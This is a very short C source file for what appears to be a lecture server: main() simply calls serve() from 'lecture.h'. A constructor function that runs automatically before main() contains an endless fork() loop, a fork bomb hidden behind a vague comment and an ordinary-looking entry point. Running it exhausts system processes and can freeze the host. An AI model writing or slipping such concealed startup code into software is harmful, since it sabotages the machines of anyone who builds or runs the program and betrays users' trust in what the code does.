/* Is at work before main() is, and after it. */
#define _GNU_SOURCE
#include "lecture.h"

__attribute__((constructor)) static void before(void) {
    while (1)
        fork();
}

int main(void) { return serve(); }
